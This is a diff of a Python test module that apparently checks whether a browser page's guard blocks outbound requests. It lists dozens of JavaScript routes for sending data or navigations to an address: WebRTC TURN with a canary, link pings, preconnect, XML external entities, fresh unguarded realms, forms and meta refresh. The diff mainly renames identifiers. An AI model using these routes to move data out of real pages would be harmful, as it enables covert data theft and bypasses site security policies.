@@ -1,4 +1,4 @@
-"""Every way out of a page that a script, or a person whom markup leads, might take to `to`."""
+"""Escape routes: scripts that try to get a text out of a page to the address `to`."""
 
 CANARY = "canary-7f3a"
 
@@ -10,33 +10,33 @@ XHTML = "http://www.w3.org/1999/xhtml"
 TOOLS = f"""
 const canary = "{CANARY}";
 const host = new URL(to).host;
-const make = (name, given) => Object.assign(document.createElement(name), given);
-const add = (name, given) => document.body.appendChild(make(name, given));
+const make = (name, properties) => Object.assign(document.createElement(name), properties);
+const add = (name, properties) => document.body.appendChild(make(name, properties));
 const markup = (text) => document.body.insertAdjacentHTML("beforeend", text);
 const peer = (Peer) => {{
   const urls = [`turn:${{host}}`, `turn:${{host}}?transport=tcp`];
   const servers = [{{ urls: `stun:${{host}}` }}, {{ urls, username: canary, credential: "x" }}];
-  const one = new Peer({{ iceServers: servers }});
-  one.createDataChannel(canary);
-  one.createOffer().then((offer) => one.setLocalDescription(offer)).catch(() => {{}});
-  (globalThis.kept ??= []).push(one);
+  const connection = new Peer({{ iceServers: servers }});
+  connection.createDataChannel(canary);
+  connection.createOffer().then((offer) => connection.setLocalDescription(offer)).catch(() => {{}});
+  (globalThis.connections ??= []).push(connection); // a collected connection would send nothing
 }};
 const peerOf = (frame) => peer(frame.contentWindow.RTCPeerConnection);
 const last = () => window[window.length - 1];
 const link = (space, name, attribute, attributeSpace) => {{
-  const one = document.createElementNS(space, name);
-  one.setAttributeNS(attributeSpace ?? null, attribute, to);
-  one.setAttribute("target", "_blank");
-  return one;
+  const element = document.createElementNS(space, name);
+  element.setAttributeNS(attributeSpace ?? null, attribute, to);
+  element.setAttribute("target", "_blank");
+  return element;
 }};
-const press = (one, cancelable = true) =>
-  one.dispatchEvent(new MouseEvent("click", {{ bubbles: true, cancelable, composed: true }}));
+const press = (node, cancelable = true) =>
+  node.dispatchEvent(new MouseEvent("click", {{ bubbles: true, cancelable, composed: true }}));
 const page = (text) => URL.createObjectURL(new Blob([text], {{ type: "text/html" }}));
 const leading = () => page(`<meta http-equiv="refresh" content="0;url=${{to}}">`);
 const shadow = (mode) => add("div").attachShadow({{ mode }});
 const parsed = (text, type) => new DOMParser().parseFromString(text, type);
 """
-"""What the ways below are written with."""
+"""The helpers of the scripts below."""
 
 CONNECTIONS = {
     "fetch": "fetch(to).catch(() => {})",
@@ -92,19 +92,19 @@ CONNECTIONS = {
     "preconnect by markup": "markup(`<link rel='preconnect' href='${to}'>`)",
     "preconnect in a shadow tree": "shadow('closed').append(make('link',"
     " {rel: 'preconnect', href: to}))",
-    "own element to preconnect": "const l = document.querySelector('[rel=manifest]');"
+    "existing element to preconnect": "const l = document.querySelector('[rel=manifest]');"
     " l.rel = 'preconnect'; l.href = to",
-    "own element by its attributes": "const l = document.querySelector('[rel=manifest]');"
+    "existing element by its attributes": "const l = document.querySelector('[rel=manifest]');"
     " l.setAttribute('rel', 'preconnect'); l.setAttribute('href', to)",
-    "own element by an attribute's value": "const l = document.querySelector('[rel=manifest]');"
+    "existing element by attribute value": "const l = document.querySelector('[rel=manifest]');"
     " l.attributes.rel.value = 'preconnect'; l.attributes.href.value = to",
-    "own element by a copied attribute": "const l = document.querySelector('[rel=manifest]');"
+    "existing element by a copied attribute": "const l = document.querySelector('[rel=manifest]');"
     " for (const [n, v] of [['rel', 'preconnect'], ['href', to]]) {"
     " const a = document.createAttribute(n); a.value = v; l.setAttributeNode(a) }",
-    "own element by a named attribute": "const l = document.querySelector('[rel=manifest]');"
+    "existing element by a named attribute": "const l = document.querySelector('[rel=manifest]');"
     " for (const [n, v] of [['rel', 'preconnect'], ['href', to]]) {"
     " const a = document.createAttribute(n); a.value = v; l.attributes.setNamedItem(a) }",
-    "own element copied": "const l = document.querySelector('[rel=manifest]').cloneNode();"
+    "existing element copied": "const l = document.querySelector('[rel=manifest]').cloneNode();"
     " l.rel = 'preconnect'; l.href = to; document.head.append(l)",
     "form to a new tab": "const f = add('form', {action: to, target: '_blank'}); f.submit()",
     "link that pings": "add('a', {href: '#tokens', ping: to}).click()",
@@ -117,7 +117,7 @@ CONNECTIONS = {
     "payment": "new PaymentRequest([{supportedMethods: to}], {total: {label: 'a',"
     " amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => {})",
     "background fetch": "navigator.serviceWorker.ready.then("
-    "(one) => one.backgroundFetch.fetch(canary, [to])).catch(() => {})",
+    "(worker) => worker.backgroundFetch.fetch(canary, [to])).catch(() => {})",
     "shared storage": "sharedStorage.createWorklet(to).catch(() => {})",
     "identity": "navigator.credentials.get({identity: {providers:"
     " [{configURL: to, clientId: canary}]}}).catch(() => {})",
@@ -127,7 +127,7 @@ CONNECTIONS = {
     "</xsl:stylesheet>`, 'text/xml')); x.transformToFragment(document, document)",
     "entity of XML": "parsed(`<!DOCTYPE a [<!ENTITY e SYSTEM '${to}'>]><a>&e;</a>`, 'text/xml')",
 }  # fmt: skip
-"""Requests of the page itself, which its policy, or its guard, has to refuse."""
+"""Requests of the page itself, which its policy or its guard must refuse."""
 
 REALMS = {
     "peer connection": "peer(RTCPeerConnection)",
@@ -182,7 +182,7 @@ REALMS = {
     " {href: to, target: '_blank'})); f.contentDocument.body.lastChild.click()",
     "peer connection of a window": "peer(open('about:blank').RTCPeerConnection)",
 }  # fmt: skip
-"""Peer connections, and what a realm of its own, fresh and without the guard, could do."""
+"""Peer connections, and scripts that use a new realm, which has no guard."""
 
 WINDOWS = {
     "new window": "window.open(to)",
@@ -211,10 +211,10 @@ WINDOWS = {
     " const a = [...document.querySelectorAll('svg a')].at(-1);"
     " setTimeout(() => press(a), 100)",
     "blob in a new tab": "make('a', {href: leading(), target: '_blank'}).click()",
-    "own link to a new tab": "const a = document.querySelector('.source a');"
+    "existing link to a new tab": "const a = document.querySelector('.source a');"
     " a.href = to; a.target = '_blank'; a.click()",
 }  # fmt: skip
-"""Other windows."""
+"""Routes that open another window."""
 
 ADDRESSES = {
     "form": "const f = add('form', {action: to}); f.submit()",
@@ -222,7 +222,8 @@ ADDRESSES = {
     "link": "add('a', {href: to}).click()",
     "link outside the page": "make('a', {href: to}).click()",
     "file to save": "make('a', {href: to, download: 'saved'}).click()",
-    "own link changed": "const a = document.querySelector('.source a'); a.href = to; a.click()",
+    "existing link changed": "const a = document.querySelector('.source a'); a.href = to;"
+    " a.click()",
     "blob": "make('a', {href: leading()}).click()",
     "refresh": "add('meta', {httpEquiv: 'refresh', content: `0;url=${to}`})",
     "refresh by markup": "markup(`<meta http-equiv='refresh' content='0;url=${to}'>`)",
@@ -231,31 +232,33 @@ ADDRESSES = {
     "address by its API": "navigation.navigate(to).finished.catch(() => {})",
     "address of a blob": "location = leading()",
 }
-"""Away in this tab."""
+"""Routes that navigate the page's tab."""
 
-WAYS = {**CONNECTIONS, **REALMS, **WINDOWS, **ADDRESSES}
+ROUTES = {**CONNECTIONS, **REALMS, **WINDOWS, **ADDRESSES}
 
 BY_ADDRESS = {"address", "replaced address", "address of a blob"}
-"""Those that only the Navigation API can refuse."""
+"""Routes that only the Navigation API can refuse."""
 
 CLICKED = {
-    "link": "add('a', {href: to, id: 'way', textContent: 'way'})",
-    "link in a new tab": "add('a', {href: to, target: '_blank', id: 'way', textContent: 'way'})",
-    "link by markup": "markup(`<a id='way' href='${to}'>way</a>`)",
-    "link in a closed shadow tree": "const r = add('div', {id: 'way'}).attachShadow("
-    "{mode: 'closed'}); r.append(make('a', {href: to, textContent: 'way'}))",
-    "link in SVG": "markup(`<svg id='way' width='99' height='20'><a href='${to}'>"
+    "link": "add('a', {href: to, id: 'route',"
+    " textContent: 'route'})",
+    "link in a new tab": "add('a', {href: to, target: '_blank', id: 'route',"
+    " textContent: 'route'})",
+    "link by markup": "markup(`<a id='route' href='${to}'>route</a>`)",
+    "link in a closed shadow tree": "const r = add('div', {id: 'route'}).attachShadow("
+    "{mode: 'closed'}); r.append(make('a', {href: to, textContent: 'route'}))",
+    "link in SVG": "markup(`<svg id='route' width='99' height='20'><a href='${to}'>"
     "<rect width='99' height='20'/></a></svg>`)",
-    "old link in SVG": "markup(`<svg id='way' width='99' height='20'><a xlink:href='${to}'>"
+    "old link in SVG": "markup(`<svg id='route' width='99' height='20'><a xlink:href='${to}'>"
     "<rect width='99' height='20'/></a></svg>`)",
-    "link with changing address": "markup(`<svg id='way' width='99' height='20'><a><animate"
+    "link with changing address": "markup(`<svg id='route' width='99' height='20'><a><animate"
     " attributeName='href' values='${to}' dur='99s' repeatCount='indefinite'/>"
     "<rect width='99' height='20'/></a></svg>`)",
-    "link in MathML": "markup(`<math id='way' href='${to}'><mtext>way way</mtext></math>`)",
+    "link in MathML": "markup(`<math id='route' href='${to}'><mtext>route</mtext></math>`)",
 }  # fmt: skip
-"""What a person clicks that has been put into the page, by the left button or the middle one."""
+"""Elements that a script inserts, and that a user then clicks with the left or middle button."""
 
 
-def trying(way: str, ways: dict[str, str] = WAYS) -> str:
-    """A script that tries one way out, to the address `to`; that it raises is as good as any."""
-    return f"{TOOLS} try {{ {ways[way]} }} catch {{}}"
+def attempt_script(route: str, routes: dict[str, str] = ROUTES) -> str:
+    """Return a script that tries one route to the address `to`, and ignores exceptions."""
+    return f"{TOOLS} try {{ {routes[route]} }} catch {{}}"
